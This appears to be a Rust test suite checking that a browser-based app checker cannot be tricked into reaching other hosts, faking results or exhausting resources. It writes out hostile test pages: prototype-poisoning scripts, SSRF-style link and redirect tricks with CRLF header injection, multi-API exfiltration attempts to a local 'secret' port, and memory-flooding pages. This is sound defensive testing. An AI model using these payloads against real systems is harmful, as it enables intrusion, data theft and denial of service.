//! Pages that attack the check: nothing in them makes the server send a request, their browser
//! reaches only the app, and their resources are limited.

use std::{
    fs,
    io::ErrorKind,
    net::{IpAddr, SocketAddr, TcpListener, UdpSocket},
    path::Path,
};

use codeflow::protocol::RunState;
use serde_json::{Value, json};

use super::{
    Ended, doubts::serve, endless_page, processes_in, run_with_browser, run_with_browser_and,
};
use crate::support::{Reply, Server, data_dir, until};

/// A port of this machine that nobody is to reach, on every address of it.
pub struct Secret {
    tcp: TcpListener,
    udp: UdpSocket,
}

impl Secret {
    pub fn open() -> Self {
        let tcp = TcpListener::bind("0.0.0.0:0").unwrap();
        tcp.set_nonblocking(true).unwrap();
        let udp = UdpSocket::bind(("0.0.0.0", tcp.local_addr().unwrap().port())).unwrap();
        udp.set_nonblocking(true).unwrap();
        Self { tcp, udp }
    }

    fn port(&self) -> u16 {
        self.tcp.local_addr().unwrap().port()
    }

    /// On the loopback device.
    pub fn at(&self) -> SocketAddr {
        SocketAddr::from(([127, 0, 0, 1], self.port()))
    }

    /// A connection that was made would wait to be accepted.
    pub fn assert_kept(&self) {
        assert_eq!(self.tcp.accept().unwrap_err().kind(), ErrorKind::WouldBlock);
        assert_eq!(
            self.udp.recv(&mut [0; 64]).unwrap_err().kind(),
            ErrorKind::WouldBlock
        );
    }
}

/// An address of this machine beside loopback, where it has one.
fn other_address() -> Option<IpAddr> {
    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.connect("192.0.2.1:9").ok()?;
    Some(socket.local_addr().ok()?.ip())
}

fn check() -> Reply {
    Reply::call("checkApp", json!({}))
}

/// Writes an app that has a page for every path, and this first page.
pub fn write_app(page: &str) -> [Reply; 2] {
    let any =
        "mkdir -p 'app/[...x]' && echo 'export default function Page() {}' >'app/[...x]/page.tsx'";
    let page = format!("<!doctype html><title>Shop</title>{page}");
    [
        Reply::write("index.html", &page),
        Reply::call("terminal", json!({ "command": any })),
    ]
}

/// Checks such an app; returns the report for the model too.
pub async fn checked(page: &str) -> (Ended, String) {
    let [write, any] = write_app(page);
    let replies = vec![write, any, check(), Reply::done(), Reply::done()];
    let run = run_with_browser(replies).await;
    let output = run.feed.tool("turn-3-checkApp-1").output.unwrap();
    (run, output)
}

/// What a page can replace in its own world, so that whoever asks it there gets this.
fn replaced(answer: &str) -> String {
    format!(
        r#"<script>
const answer = {answer};
const text = JSON.stringify(answer);
JSON.stringify = () => text;
JSON.parse = () => answer;
for (const name of ["map", "filter", "slice", "some", "includes"]) Array.prototype[name] = () => answer.links;
Object.getOwnPropertyDescriptor = () => ({{ get: () => answer.links }});
Reflect.apply = () => answer.links;
window.URL = class {{ constructor() {{ return {{ origin: location.origin, pathname: answer.links[0] }}; }} static canParse() {{ return true; }} }};
for (const name of ["querySelector", "querySelectorAll"]) Document.prototype[name] = Element.prototype[name] = () => answer.links;
Object.defineProperty(Object.prototype, "toJSON", {{ value: () => answer, configurable: true }});
Object.defineProperty(HTMLAnchorElement.prototype, "href", {{ get: () => answer.links[0] }});
Object.defineProperty(window, "surfaces", {{ value: [1, 2, 3] }});
</script>"#
    )
}

/// A page that has these links, and that says so whatever it is asked.
pub fn page_with_links(links: &Value) -> String {
    let answer = json!({
        "text": 9, "things": 9, "drawn": true, "surface": false, "surfaces": 0, "overlay": "", "instead": "", "links": links,
    });
    let anchors = links.as_array().unwrap().iter();
    let anchors = anchors.filter_map(|link| link.as_str());
    let anchors: String = anchors
        .map(|link| format!("<a href=\"{link}\">Link</a>"))
        .collect();
    format!("<h1>Shop</h1>{anchors}{}", replaced(&answer.to_string()))
}

#[tokio::test]
async fn whatever_a_page_links_to_the_server_sends_requests_to_the_app_alone() {
    let secret = Secret::open();
    let at = secret.at();
    let links = json!([
        format!("@{at}/leak?secret=1"),
        format!("//{at}/leak"),
        format!("\\\\{at}\\leak"),
        format!("/\\{at}/leak"),
        format!("http:{at}/leak"),
        format!("http://{at}/leak"),
        format!(".{at}/"),
        format!(":{}/", secret.port()),
        format!("/x@{at}/leak"),
        format!("/../..//{at}/leak"),
        "/x\r\nHost: evil\r\n\r\n",
        "/x\0",
        format!("/{}", "a".repeat(1 << 16)),
        7,
        null,
        [],
        {},
        true,
    ]);
    for links in [json!([format!("@{at}/leak?secret=1")]), links] {
        let (run, output) = checked(&page_with_links(&links)).await;
        secret.assert_kept();
        assert!(output.starts_with("The app works"), "{output}");
        assert_eq!(run.state, RunState::Succeeded, "{}", run.message.content);
    }
}

#[tokio::test]
async fn a_page_can_neither_fake_its_content_nor_hide_its_links() {
    let full = json!({ "text": 9, "things": 9, "drawn": true, "surface": true, "overlay": "", "instead": "", "links": [] });
    let (run, output) = checked(&format!("<body></body>{}", replaced(&full.to_string()))).await;
    assert!(output.contains("The page is empty"), "{output}");
    assert_eq!(run.state, RunState::Failed);

    // Elements whose names stand in for what is asked of the document, and of themselves.
    let names = [
        "body",
        "querySelectorAll",
        "defaultView",
        "createElement",
        "links",
        "documentElement",
    ];
    let images: String = names
        .iter()
        .map(|name| format!("<img name=\"{name}\" alt=\"\">"))
        .collect();
    let inputs = [
        "getBoundingClientRect",
        "firstElementChild",
        "matches",
        "getAttributeNames",
        "children",
        "innerText",
    ];
    let inputs: String = inputs
        .iter()
        .map(|name| format!("<input name=\"{name}\">"))
        .collect();
    let (run, output) = checked(&format!(
        "<h1>Shop</h1>{images}<form name=\"body\" id=\"Document\">{inputs}</form><form id=\"Element\">{inputs}</form><a href=\"/broken\">Bread</a>\
         <script>if (location.pathname === '/broken') throw new Error('no such bread')</script>"
    ))
    .await;
    assert!(
        output.contains("(/broken)") && output.contains("no such bread"),
        "{output}"
    );
    assert_eq!(run.state, RunState::Failed);
}

#[tokio::test]
async fn a_page_with_a_click_handler_of_react_is_a_surface_whatever_its_elements_carry() {
    let page = |kept: &str| {
        format!(
            r#"<main style="background: tomato; height: 100vh"></main><script>
const main = document.querySelector("main");
Object.defineProperty(main, "odd", {{ get() {{ throw new Error("it was looked at"); }}, enumerable: true }});
main.__reactProps$a1 = {kept};
</script>"#
        )
    };
    let (_run, output) = checked(&page("{ style: {}, onClick() {} }")).await;
    assert!(
        output.starts_with("The app works") && output.contains("fills the window"),
        "{output}"
    );
    let (_run, output) = checked(&page("{ style: {}, wide: 1 }")).await;
    assert!(
        output.contains("The page is empty") && !output.contains("it was looked at"),
        "{output}"
    );
}

#[tokio::test]
async fn redirects_of_any_kind_lead_the_check_nowhere() {
    let secret = Secret::open();
    let at = secret.at();
    let [server, restart] = serve(&format!(
        r#"const redirects = {{ "/relative": "//{at}/leak", "/absolute": "http://{at}/leak", "/user": "http://user:word@{at}/leak", "/back": "/\\{at}/leak" }};
  if (redirects[request.url]) return response.writeHead(307, {{ location: redirects[request.url], refresh: "0; url=http://{at}/leak" }}).end();
  if (request.url === "/refresh") return response.writeHead(200, {{ refresh: "0; url=http://{at}/leak" }}).end("<h1>Shop</h1>");
  if (request.url === "/meta") return html('<h1>Shop</h1><meta http-equiv="refresh" content="0; url=//{at}/leak">');
  if (request.url === "/script") return html('<h1>Shop</h1><script>location = "//{at}/leak"</script>');
  if (request.url === "/frame") return html('<h1>Shop</h1><iframe src="//{at}/leak"></iframe>');
  if (request.url === "/form") return html('<h1>Shop</h1><form method="post" action="//{at}/leak"></form><script>document.forms[0].submit()</script>');
  html("<h1>Shop</h1>");"#
    ));
    let pages = [
        "relative", "absolute", "user", "back", "refresh", "meta", "script", "frame", "form",
    ];
    let write = pages
        .map(|page| format!("mkdir -p app/{page} && touch app/{page}/page.tsx"))
        .join(" && ");
    let write = Reply::call("terminal", json!({ "command": write }));
    let run = run_with_browser(vec![
        server,
        restart,
        write,
        check(),
        Reply::done(),
        Reply::done(),
    ])
    .await;
    let output = run.feed.tool("turn-4-checkApp-1").output.unwrap();
    assert!(
        output.contains("leads to another server") && output.contains(&at.to_string()),
        "{output}"
    );
    secret.assert_kept();
}

#[tokio::test]
async fn a_page_reaches_no_address_by_any_api_of_the_browser() {
    let secret = Secret::open();
    let port = secret.port();
    let mut hosts = vec![
        "127.0.0.1".to_owned(),
        "localhost".to_owned(),
        "[::1]".to_owned(),
        "0.0.0.0".to_owned(),
        "2130706433".to_owned(),
    ];
    hosts.extend(other_address().map(|address| address.to_string()));
    let page = format!(
        r#"<h1>Shop</h1><script>
const quiet = (attempt) => {{ try {{ const tried = attempt(); tried?.catch?.(() => {{}}); return tried; }} catch {{}} }};
const add = (name, attributes) => quiet(() => document.head.append(Object.assign(document.createElement(name), attributes)));
const tried = [];
for (const host of {hosts}) {{
  const at = `${{host}}:{port}`;
  tried.push(quiet(() => fetch(`http://${{at}}/fetch`, {{ method: "POST", mode: "no-cors", keepalive: true, body: "secret" }})));
  quiet(() => navigator.sendBeacon(`http://${{at}}/beacon`, "secret"));
  quiet(() => new WebSocket(`ws://${{at}}/socket`));
  quiet(() => new EventSource(`http://${{at}}/events`));
  quiet(() => new WebTransport(`https://${{at}}/transport`));
  quiet(() => window.open(`http://${{at}}/popup`));
  quiet(() => Object.assign(new Image(), {{ src: `http://${{at}}/image` }}));
  quiet(() => new Worker(URL.createObjectURL(new Blob([`fetch("http://${{at}}/worker").catch(() => {{}}); new WebSocket("ws://${{at}}/worker")`]))));
  quiet(() => navigator.serviceWorker.register(`/worker.js?at=${{at}}`));
  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender", "stylesheet", "manifest", "icon"]) {{
    add("link", {{ rel, href: `http://${{at}}/${{rel}}`, as: "script" }});
  }}
  add("script", {{ type: "speculationrules", textContent: JSON.stringify({{ prerender: [{{ urls: [`http://${{at}}/rules`] }}], prefetch: [{{ urls: [`http://${{at}}/rules`] }}] }}) }});
  add("style", {{ textContent: `@import "http://${{at}}/import"; @font-face {{ font-family: x; src: url(http://${{at}}/font) }} h1 {{ font-family: x }}` }});
  for (const urls of [`stun:${{at}}`, `turn:${{at}}?transport=tcp`, `turn:${{at}}?transport=udp`]) {{
    quiet(() => {{
      const peer = new RTCPeerConnection({{ iceServers: [{{ urls, username: "a", credential: "b" }}], iceCandidatePoolSize: 2 }});
      peer.createDataChannel("out");
      tried.push(peer.createOffer().then((offer) => peer.setLocalDescription(offer)));
    }});
  }}
}}
Promise.allSettled(tried).then(() => setTimeout(() => console.error("all was tried, and it is " + (navigator.onLine ? "online" : "offline")), 500));
</script>"#,
        hosts = json!(hosts)
    );
    let (_run, output) = checked(&page).await;
    assert!(
        output.contains("all was tried, and it is online"),
        "{output}"
    );
    secret.assert_kept();
}

/// The control groups that are there for the browsers of a server.
fn groups_of(server: u32) -> Vec<std::path::PathBuf> {
    let hierarchies = fs::read_dir("/sys/fs/cgroup")
        .unwrap()
        .flatten()
        .map(|entry| entry.path());
    let name = format!("codeflow-browser-{server}-");
    let groups = hierarchies
        .chain(["/sys/fs/cgroup".into()])
        .filter_map(|hierarchy| fs::read_dir(hierarchy).ok());
    let groups = groups.flatten().flatten().map(|entry| entry.path());
    groups
        .filter(|group| {
            group
                .file_name()
                .unwrap()
                .to_str()
                .unwrap()
                .starts_with(&name)
        })
        .collect()
}

#[tokio::test]
async fn the_browser_has_its_own_network_and_control_group_which_end_with_it() {
    let data = data_dir();
    let (folder, model) = endless_page().await;
    let env = [
        ("CHROMIUM_PATH", ""),
        ("TMPDIR", folder.path().to_str().unwrap()),
        ("CHROMIUM_MEMORY_MB", "700"),
    ];
    let server = Server::process(data.path(), &model, &env).await;
    server.create("Build").await;
    let processes = until("the page is being loaded", async || {
        let found = processes_of(folder.path());
        (found.len() > 3).then_some(found)
    })
    .await;
    let own_network = fs::read_link("/proc/self/ns/net").unwrap();
    let mut confined = 0;
    for process in processes {
        let proc = Path::new("/proc").join(&process);
        // One that ends meanwhile says nothing.
        let (Ok(network), Ok(devices), Ok(groups)) = (
            fs::read_link(proc.join("ns/net")),
            fs::read_to_string(proc.join("net/dev")),
            fs::read_to_string(proc.join("cgroup")),
        ) else {
            continue;
        };
        assert_ne!(network, own_network, "{process}");
        let devices: Vec<&str> = devices
            .lines()
            .filter_map(|line| line.split_once(':'))
            .map(|(name, _)| name.trim())
            .collect();
        // What leads from one end to the other, and no device of the machine.
        assert!(
            devices
                .iter()
                .all(|name| ["lo", "net0", "net1"].contains(name)),
            "{process}: {devices:?}"
        );
        assert!(
            groups.contains(&format!("codeflow-browser-{}-", server.pid())),
            "{process}: {groups}"
        );
        confined += 1;
    }
    assert!(confined > 2, "{confined}");
    let groups = groups_of(server.pid());
    let limit = |names: &[&str]| {
        let files = groups
            .iter()
            .flat_map(|group| names.iter().map(move |name| group.join(name)));
        files
            .filter_map(|file| fs::read_to_string(file).ok())
            .next()
            .unwrap()
            .trim()
            .to_owned()
    };
    assert_eq!(
        limit(&["memory.max", "memory.limit_in_bytes"]),
        (700_u64 << 20).to_string()
    );
    assert_eq!(limit(&["pids.max"]), "1024");
    assert!(limit(&["cpu.max", "cpu.cfs_quota_us"]).starts_with("200000"));

    // A server that is killed ends its browser by that; the group goes when the next one starts.
    let pid = server.pid();
    server.kill();
    until("the browser ends with its server", async || {
        (processes_in(folder.path()) == 0).then_some(())
    })
    .await;
    let server = Server::process(data.path(), &model, &env).await;
    assert_eq!(groups_of(pid), Vec::<std::path::PathBuf>::new());
    let profiles = fs::read_dir(folder.path()).unwrap().flatten();
    let left = format!("codeflow-browser-{pid}-");
    assert_eq!(
        profiles
            .filter(|entry| entry.file_name().to_str().unwrap().starts_with(&left))
            .count(),
        0
    );
    drop(server);
}

/// The ids of the processes that were started with something in the folder.
pub fn processes_of(folder: &Path) -> Vec<String> {
    let processes = fs::read_dir("/proc").unwrap().flatten();
    let is_in = |process: &fs::DirEntry| {
        let command = fs::read(process.path().join("cmdline")).unwrap_or_default();
        String::from_utf8_lossy(&command).contains(&format!("--user-data-dir={}", folder.display()))
    };
    processes
        .filter(is_in)
        .map(|process| process.file_name().into_string().unwrap())
        .collect()
}

#[tokio::test]
async fn a_page_that_uses_too_much_memory_fails_and_only_its_browser_is_killed() {
    let page = "<!doctype html><h1>Shop</h1><script>const kept = []; for (let i = 0; i < 64; i++) kept.push(new Uint8Array(32 << 20).fill(i + 1));</script>";
    let replies = vec![
        Reply::write("index.html", page),
        check(),
        Reply::done(),
        Reply::done(),
    ];
    let run = run_with_browser_and(replies, &[("CHROMIUM_MEMORY_MB", "512")]).await;
    let output = run.feed.tool("turn-2-checkApp-1").output.unwrap();
    assert!(
        output.contains("The page used more than 512 MB of memory"),
        "{output}"
    );
    assert_eq!(run.state, RunState::Failed);
}

#[tokio::test]
async fn a_page_with_an_endless_stream_of_events_costs_the_server_little_memory() {
    let page = r#"<!doctype html><h1>Shop</h1><div id="links" hidden></div><script>
document.getElementById("links").innerHTML = "<a href='/many'>Many</a>".repeat(300000);
const long = "x".repeat(1 << 16);
const headers = Object.fromEntries(Array.from({ length: 200 }, (_, number) => ["x-" + number, "y".repeat(30)]));
setInterval(() => {
  for (let i = 0; i < 5; i++) console.error(long, { [long]: long }, [long]);
  for (let i = 0; i < 50; i++) fetch("/many?" + i, { headers }).catch(() => {});
  document.body.append(Object.assign(document.createElement("iframe"), { src: "about:blank" }));
  Promise.reject(new Error(long));
}, 100);
</script>"#;
    let any =
        "mkdir -p 'app/[...x]' && echo 'export default function Page() {}' >'app/[...x]/page.tsx'";
    let replies = vec![
        Reply::write("index.html", page),
        Reply::call("terminal", json!({ "command": any })),
        check(),
        Reply::done(),
        Reply::done(),
    ];
    let run = run_with_browser(replies).await;
    let output = run.feed.tool("turn-3-checkApp-1").output.unwrap();
    assert!(
        output.contains("Unhandled rejection: Error: xxx"),
        "{output}"
    );
    assert!(output.len() < 20_000, "{}", output.len());
    let peak = run.server.peak_memory();
    assert!(peak < 400 << 20, "{} MiB", peak >> 20);
}
